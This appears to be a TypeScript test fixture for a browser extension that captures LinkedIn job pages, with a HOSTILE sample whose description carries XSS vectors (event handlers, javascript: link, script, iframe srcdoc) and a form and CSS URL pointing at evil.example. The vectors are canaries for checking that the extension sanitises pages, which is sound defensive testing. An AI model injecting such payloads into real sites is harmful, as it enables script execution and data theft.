import { linkedInPage, type ExtensionBrowser } from './extension-browser';

/** A bundled LinkedIn page and the real job URL it is served under (tests, demo and bench). */
export interface LinkedInSample {
  url: string;
  /** The page as the browser loads it (fragments get a `document.title`). */
  html: () => string;
  /** Primary key the saved posting gets. */
  jobId: string;
  title: string;
}

/** Guest (logged-out) full job page. */
export const GUEST: LinkedInSample = {
  url: 'https://www.linkedin.com/jobs/view/senior-software-engineer-developer-experience-at-heidi-4411867124',
  html: () => linkedInPage('guest-full-page-senior-software-engineer.html'),
  jobId: 'linkedin:4411867124',
  title: 'Senior Software Engineer - Developer Experience',
};

/** Classic two-pane search, detail pane only. */
export const TWO_PANE: LinkedInSample = {
  url: 'https://www.linkedin.com/jobs/search/?currentJobId=4302668926&keywords=software',
  html: () =>
    linkedInPage('logged-in-two-pane-software-engineer-intern.html', 'Software Engineer - Internship | Hunter Bond | LinkedIn'),
  jobId: 'linkedin:4302668926',
  title: 'Software Engineer - Internship - Up to $18,000 p/m + Benefits - Quant Fund',
};

/** SDUI job view, reconstructed from the documented hooks (see the fixture's comment). */
export const SDUI: LinkedInSample = {
  url: 'https://www.linkedin.com/jobs/view/4399912345/',
  html: () => linkedInPage('sdui-reconstructed-logged-in-job.html'),
  jobId: 'linkedin:4399912345',
  title: 'Site Reliability Engineer',
};

/**
 * A job whose description tries everything — script, handlers, a javascript: link, svg onload, a
 * frame, a CSS URL, a form, and markup written as text: if any of it ran, the page title changes.
 */
export const HOSTILE: LinkedInSample = {
  url: 'https://www.linkedin.com/jobs/view/4311111111/',
  html: () => `<!doctype html><html><head><title>Hostile Engineer | Evil Corp | LinkedIn</title></head><body>
<div class="job-view-layout jobs-details">
  <div class="job-details-jobs-unified-top-card__company-name"><a href="/company/evil/">Evil Corp</a></div>
  <div class="job-details-jobs-unified-top-card__job-title"><h1>Hostile Engineer</h1></div>
  <div id="job-details"><h2>About the job</h2>
    <p onmouseover="document.title='pwned'">We need Python and <a href="javascript:document.title='pwned'">SQL</a>.</p>
    <img src="x" onerror="document.title='pwned'"><svg onload="document.title='pwned'"></svg>
    <script>document.title='pwned'</script><iframe srcdoc="<script>parent.document.title='pwned'</script>"></iframe>
    &lt;img src=x onerror="document.title='pwned'"&gt;
    <p style="background:url(https://evil.example/track.png)">Requirements: 2+ years of experience.</p>
    <form action="https://evil.example/steal"><input name="q"><button>Go</button></form>
  </div>
</div></body></html>`,
  jobId: 'linkedin:4311111111',
  title: 'Hostile Engineer',
};

/** Serves the samples and saves each one as a user would: its page in a tab, then the popup over it. */
export async function captureSamples(b: ExtensionBrowser, samples: readonly LinkedInSample[]): Promise<void> {
  b.serve(Object.fromEntries(samples.map((s) => [s.url, s.html()])));
  for (const sample of samples) {
    const page = await b.context.newPage();
    await page.goto(sample.url);
    const popup = await b.popupTab(await b.tabIdOf(page));
    await popup.locator('#detail-title').waitFor();
    await popup.close();
    await page.close();
  }
}
